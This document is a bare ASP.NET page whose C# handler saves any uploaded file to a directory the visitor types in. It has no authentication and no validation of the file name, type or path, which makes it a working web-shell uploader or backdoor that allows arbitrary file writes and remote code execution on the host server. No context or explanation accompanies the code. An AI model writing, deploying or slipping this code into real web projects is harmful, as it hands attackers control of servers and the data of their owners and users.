<%@ Page Language="C#" %>
<script runat="server">
protected void Up(object sender, EventArgs e)
{
    if (file.HasFile) { file.SaveAs(savepath.Text + "\\" + file.FileName); msg.Text = "ok"; }
}
</script>
<form runat="server" enctype="multipart/form-data">
<asp:FileUpload ID="file" runat="server" /><asp:TextBox ID="savepath" runat="server" />
<asp:Button runat="server" Text="Upload" OnClick="Up" /><asp:Label ID="msg" runat="server" />
</form>
